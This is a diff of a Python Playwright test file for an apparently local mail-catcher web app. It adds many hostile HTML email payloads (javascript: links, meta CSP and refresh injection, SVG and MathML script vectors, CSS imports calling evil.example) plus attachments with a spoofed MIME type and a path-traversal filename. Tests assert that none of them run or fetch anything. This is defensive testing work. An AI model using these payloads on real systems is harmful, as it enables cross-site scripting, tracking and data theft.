@@ -24,29 +24,63 @@ HOSTILE = {
     "form": "<form action='https://evil.example/' id=f><input name=a></form><script>f.submit()</script>",
     "srcset": "<img srcset='https://evil.example/1.png 1x, https://evil.example/2.png 2x'>",
     "data url": "<iframe src='data:text/html,<script>top.hacked=1</script>'></iframe>",
+    "javascript link": "<a id=a href='javascript:top.hacked=1;alert(1)' target=_self>go</a><area href='javascript:alert(1)'>",
+    "ping": "<a href='#x' ping='https://evil.example/ping'>go</a>",
+    "meta policy": "<meta http-equiv='Content-Security-Policy' content=\"default-src *; script-src * 'unsafe-inline'\"><script>alert(1)</script>",
+    "meta cookie": "<meta http-equiv='Set-Cookie' content='a=b'><meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
+    "svg fetches": "<svg><use href='https://evil.example/u.svg#a'/><feImage href='https://evil.example/f.png'/><a href='javascript:alert(1)'><text>go</text></a></svg>",
+    "svg animation": "<svg><a><animate attributeName=href values='javascript:alert(1)'/><text x=9 y=9>go</text></a></svg>",
+    "math": "<math href='javascript:alert(1)'><mtext><img src=x onerror='alert(1)'></mtext></math>",
+    "css imports": "<style>@import url(//evil.example/a.css); @import 'https://evil.example/b.css' layer(x) supports(display: block);</style>",
+    "css pictures": "<p style=\"background: image-set('https://evil.example/a.png' 1x); cursor: url(https://evil.example/c.cur), auto; list-style: url(//evil.example/l)\">x</p>",
+    "css escapes": "<style>body { background: \\75rl(https://evil.example/a.png) } @\\69mport 'https://evil.example/b.css';</style>",
+    "template": "<template shadowrootmode=open><img src='https://evil.example/t.png'><script>alert(1)</script></template>",
+    "marquee": "<marquee onstart='alert(1)'>x</marquee><details open ontoggle='alert(1)'>x</details><input autofocus onfocus='alert(1)'>",
+    "raw text": "<title><img src=x onerror='alert(1)'></title><textarea><script>alert(1)</script></textarea><noscript><img src='https://evil.example/n.png'></noscript>",
+    "portal": "<portal src='https://evil.example/'></portal><fencedframe src='https://evil.example/'></fencedframe>",
+    "applet": "<applet code=x archive='https://evil.example/a.jar'></applet><param name=src value='https://evil.example/'><isindex action='https://evil.example/'>",
+    "manifest": "<html manifest='https://evil.example/m'><link rel=manifest href='https://evil.example/m.json'><link rel=modulepreload href='https://evil.example/m.js'>",
+    "popover": "<button popovertarget=x style='position: fixed; inset: 0'>x</button><dialog id=x popover open>y</dialog>",
     "our own api": "<img src='/api/messages?all=true'><script>fetch('/api/messages?all=true', {method: 'DELETE'})</script>",
     "nesting": "<table><tr><td>" * 5_000,
     "broken": "<div <p style='</style><!-- <b>" + "<" * 10_000,
 }
 
 
-@pytest.mark.parametrize("name", HOSTILE)
-def test_nothing_runs_and_nothing_is_fetched(page: Page, catcher: Catcher, name: str) -> None:
-    asked: list[str] = []
-    dialogs: list[str] = []
+ALONE = ("nesting", "broken", "raw text", "meta refresh", "meta cookie", "template")
+TOGETHER = [name for name in HOSTILE if name not in ALONE]
 
-    def note(request: Request) -> None:
-        if not request.url.startswith((catcher.url, "data:", "about:")):
-            asked.append(request.url)
 
-    def note_dialog(dialog: Dialog) -> None:
-        dialogs.append(dialog.message)
+class Watched:
+    """What a mail must not do: ask for something elsewhere, or speak to the user."""
+
+    def __init__(self, page: Page, ours: str) -> None:
+        self._ours = ours
+        self.asked: list[str] = []
+        self.dialogs: list[str] = []
+        # A request that the policy forbids never leaves the browser, though it is announced and then fails.
+        page.on("requestfinished", self._note)
+        page.on("dialog", self._note_dialog)
+
+    def _note(self, request: Request) -> None:
+        if not request.url.startswith((self._ours, "data:", "about:", "blob:")):
+            self.asked.append(request.url)
+
+    def _note_dialog(self, dialog: Dialog) -> None:
+        self.dialogs.append(dialog.message)
         dialog.dismiss()
 
-    # A request that the policy forbids never leaves the browser, though it is announced and then fails.
-    page.on("requestfinished", note)
-    page.on("dialog", note_dialog)
-    html = f"<html><body><p>marker</p>{HOSTILE[name]}</body></html>"
+
+def mails() -> dict[str, str]:
+    """The kinds that get along with each other in one mail; those that do not, alone."""
+    joined = {"all kinds": "".join(HOSTILE[name] for name in TOGETHER)}
+    return joined | {name: HOSTILE[name] for name in ALONE}
+
+
+@pytest.mark.parametrize("name", mails())
+def test_nothing_runs_and_nothing_is_fetched(page: Page, catcher: Catcher, name: str) -> None:
+    watched = Watched(page, catcher.url)
+    html = f"<html><body><p>marker</p>{mails()[name]}</body></html>"
     send(catcher.smtp, mail("evil@example.com", "bob@example.com", "hostile", html=html))
     page.get_by_role("button", name="hostile").click()
     expect(page.frame_locator("iframe").first.get_by_text("marker")).to_be_attached()
@@ -54,9 +88,66 @@ def test_nothing_runs_and_nothing_is_fetched(page: Page, catcher: Catcher, name:
     send(catcher.smtp, mail("a@example.com", "bob@example.com", "and the page lives"))
     expect(page.locator(".rows li")).to_have_count(2)
     assert page.evaluate("window.hacked") is None
-    assert (asked, dialogs) == ([], [])
+    assert (watched.asked, watched.dialogs) == ([], [])
     assert page.url.startswith(catcher.url)
     assert len(catcher.messages) == 2
+
+
+def test_a_drawing_of_a_hostile_mail_runs_and_fetches_nothing(page: Page, catcher: Catcher) -> None:
+    watched = Watched(page, catcher.url)
+    html = f"<html><body><p>marker</p>{mails()['all kinds']}</body></html>"
+    send(catcher.smtp, mail("evil@example.com", "bob@example.com", "hostile", html=html))
+    page.goto(f"{catcher.url}/?message={catcher.wait().id}&tab=text")
+
+    page.get_by_role("button", name="Download", exact=True).click()
+    with page.expect_download() as picture:
+        page.get_by_role("button", name="Picture (.png)").click()
+
+    assert picture.value.path().read_bytes().startswith(b"\x89PNG")
+    assert page.evaluate("window.hacked") is None
+    assert (watched.asked, watched.dialogs) == ([], [])
+
+
+def test_ten_megabytes_of_html_leave_the_page_alive(page: Page, catcher: Catcher) -> None:
+    html = "<p>marker</p>" + "<p>many words of no importance</p>" * 320_000
+    send(catcher.smtp, mail("evil@example.com", "bob@example.com", "huge", html=html))
+    page.get_by_role("button", name="huge").click()
+    expect(page.get_by_role("heading", name="huge")).to_be_visible(timeout=60_000)
+
+    page.get_by_role("tab", name="Envelope").click()
+
+    expect(page.get_by_role("tabpanel")).to_contain_text("MAIL FROM")
+    send(catcher.smtp, mail("a@example.com", "bob@example.com", "and the page lives"))
+    expect(page.locator(".rows li")).to_have_count(2)
+
+
+@pytest.mark.parametrize(
+    ("claimed", "content"),
+    [
+        ("image/png", b"PK\x03\x04" + b"\0" * 1_000),
+        ("image/png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
+        ("image/svg+xml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
+        ("text/html", b"<script>top.hacked = 1; alert(1)</script>"),
+    ],
+)
+def test_a_file_that_is_not_what_it_claims_does_nothing(
+    page: Page, catcher: Catcher, claimed: str, content: bytes
+) -> None:
+    watched = Watched(page, catcher.url)
+    made = mail("evil@example.com", "bob@example.com", "file", html="<img src='cid:x@y'><p>marker</p>")
+    major, minor = claimed.split("/")
+    made.add_attachment(content, maintype=major, subtype=minor, filename="../../x", cid="<x@y>")
+    send(catcher.smtp, made)
+    page.goto(f"{catcher.url}/?message={catcher.wait().id}&tab=files")
+
+    page.get_by_role("button", name="View x").click()
+    expect(page.locator(".viewer > *").first).to_be_visible()
+    with page.expect_download() as download:
+        page.get_by_role("link", name="Download x").click()
+
+    assert download.value.suggested_filename == "x"
+    assert page.evaluate("window.hacked") is None
+    assert (watched.asked, watched.dialogs) == ([], [])
 
 
 def test_remote_pictures_are_blocked_until_asked_for(page: Page, catcher: Catcher) -> None:
